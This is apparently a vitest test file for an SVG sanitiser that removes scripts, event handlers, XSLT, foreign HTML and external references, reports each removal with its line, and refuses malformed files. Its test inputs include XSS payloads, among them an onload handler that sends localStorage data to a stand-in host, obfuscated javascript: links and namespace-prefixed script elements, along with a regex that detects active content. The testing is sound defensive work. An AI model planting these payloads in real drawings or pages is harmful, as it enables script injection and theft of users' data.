import { readdirSync, readFileSync } from "node:fs";
import path from "node:path";

import { expect, test } from "vitest";

import { makeSvgInert } from "./inert-svg.ts";
import { REPOSITORY_ROOT } from "./load.ts";

const SVG = 'xmlns="http://www.w3.org/2000/svg"';

function inert(text: string) {
  const result = makeSvgInert(text);
  if ("problem" in result) throw new Error(result.problem);
  return result;
}

/** What a browser could run or fetch in the copy: any of these in the output is a failure of the allow-list. */
const ACTIVE = /<script|<style|<foreignObject|<\?|\son\w+\s*=|javascript:|xsl:|https?:\/\/(?!www\.w3\.org\/)/i;

test.each([
  [
    "an event handler after an attribute whose value holds >",
    `<svg ${SVG} width="10" height="10"><rect aria-label=">" onload="fetch('//x.example/'+localStorage.t)" width="10" height="10"/></svg>`,
    "the event handler onload on <rect>",
  ],
  [
    "a script element with a dotted namespace prefix",
    `<svg ${SVG} xmlns:a.b="http://www.w3.org/2000/svg"><a.b:script>fetch("//x.example/")</a.b:script><rect width="1" height="1"/></svg>`,
    "the <a.b:script> element",
  ],
  [
    "a script element with a non-ASCII namespace prefix",
    `<svg ${SVG} xmlns:é="http://www.w3.org/2000/svg"><é:script>fetch("//x.example/")</é:script></svg>`,
    "the <é:script> element",
  ],
  [
    "an xml-stylesheet naming an XSLT program",
    `<?xml version="1.0"?>\n<?xml-stylesheet type="text/xsl" href="/images/xslt.svg"?>\n<svg ${SVG}><rect width="1" height="1"/></svg>`,
    "the processing instruction <?xml-stylesheet?>",
  ],
  [
    "an XSLT program dressed as an SVG that builds a script",
    `<svg ${SVG} xsl:version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:element name="{concat('scr','ipt')}">fetch("//x.example/")</xsl:element></svg>`,
    "the <xsl:element> element",
  ],
  ["a script element", `<svg ${SVG}><script>alert(1)</script></svg>`, "the <script> element"],
  ["HTML inside", `<svg ${SVG}><foreignObject><body xmlns="http://www.w3.org/1999/xhtml"/></foreignObject></svg>`, "the <foreignObject> element"],
  ["an HTML script", `<svg ${SVG}><h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script></svg>`, "the <h:script> element"],
  ["a stylesheet", `<svg ${SVG}><style>@import url(https://x.example/a.css)</style></svg>`, "the <style> element"],
  ["an animation that sets a link", `<svg ${SVG}><set attributeName="href" to="javascript:alert(1)"/></svg>`, "the <set> element"],
  [
    "a script address",
    `<svg ${SVG} xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href="java&#x09;script:alert(1)"><text>x</text></a></svg>`,
    "the address href",
  ],
  ["an address on another site", `<svg ${SVG}><image href="https://x.example/p.png" width="1" height="1"/></svg>`, "the address href"],
  ["an embedded SVG", `<svg ${SVG}><image href="data:image/svg+xml;base64,PHN2Zy8+" width="1" height="1"/></svg>`, "the address href"],
  ["a paint from another site", `<svg ${SVG}><rect fill="url(https://x.example/p.svg#g)" width="1" height="1"/></svg>`, "the value of fill"],
  ["CSS that imports", `<svg ${SVG}><rect style="fill:red;@import 'x'" width="1" height="1"/></svg>`, "the value of style"],
])("the copy of a drawing with %s leaves it out and says so", (_, text, what) => {
  const { svg, removed } = inert(text);
  expect(svg).not.toMatch(ACTIVE);
  expect(removed.map((removal) => removal.what).join("\n")).toContain(what);
  expect(makeSvgInert(svg)).toEqual({ svg, removed: [] });
});

test("the removals are reported on their lines", () => {
  const { removed } = inert(`<?xml version="1.0"?>\n<svg ${SVG}>\n<rect onclick="x()"/>\n<script/>\n</svg>`);
  expect(removed).toEqual([
    { line: 3, what: "the event handler onclick on <rect>" },
    { line: 4, what: "the <script> element" },
  ]);
});

test("a drawing keeps its shapes, gradients, links' contents, inner references and embedded photos", () => {
  const { svg, removed } = inert(
    `<svg ${SVG} xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape" viewBox="0 0 4 4" inkscape:version="1.3">
<!-- drawn by hand -->
<defs><linearGradient id="g"><stop offset="0" stop-color="#fff"/></linearGradient></defs>
<title>A &amp; B</title>
<a href="/courses"><rect width="4" height="4" fill="url(#g)" style="opacity:.5"/></a>
<use xlink:href="#g"/><image href="data:image/png;base64,iVBORw0KGgo=" width="1" height="1"/>
<inkscape:grid/>
</svg>`,
  );
  expect(removed).toEqual([{ line: 5, what: expect.stringContaining('the address href="/courses"') }]);
  expect(svg).toContain('<rect width="4" height="4" fill="url(#g)" style="opacity:.5"/>');
  expect(svg).toContain('<use xlink:href="#g"/><image href="data:image/png;base64,iVBORw0KGgo="');
  expect(svg).toContain("<title>A &amp; B</title>");
  expect(svg).not.toMatch(/inkscape|<a\b|<!--/);
  expect(makeSvgInert(svg)).toEqual({ svg, removed: [] });
});

test.each([
  ["a PNG named .svg", "\u0089PNG\r\n\u001a\n\u0000\u0000", 2, "is not a well-formed SVG file"],
  ["an undeclared namespace prefix", `<svg ${SVG}>\n<a.b:script/></svg>`, 2, 'unbound namespace prefix: "a.b"'],
  ["an entity declared in a DOCTYPE", `<!DOCTYPE svg [<!ENTITY s "x">]>\n<svg ${SVG}>&s;</svg>`, 2, "undefined entity"],
  ["an HTML page", "<html><body>x</body></html>", 1, "its first element is <html>"],
  ["an svg element outside the SVG namespace", "<svg><rect/></svg>", 1, "not <svg> in the SVG namespace"],
  ["an empty file", "", 1, "document must contain a root element"],
])("%s is refused, with its line", (_, text, line, problem) => {
  expect(makeSvgInert(text)).toEqual({ line, problem: expect.stringContaining(problem) });
});

test("every SVG the repository ships is published unchanged in what it draws: nothing is left out", () => {
  const svgs = readdirSync(path.join(REPOSITORY_ROOT, "public"), { recursive: true, encoding: "utf8" }).filter(
    (name) => name.endsWith(".svg"),
  );
  expect(svgs.length).toBeGreaterThan(0);
  for (const name of svgs)
    expect(inert(readFileSync(path.join(REPOSITORY_ROOT, "public", name), "utf8")).removed, name).toEqual([]);
});
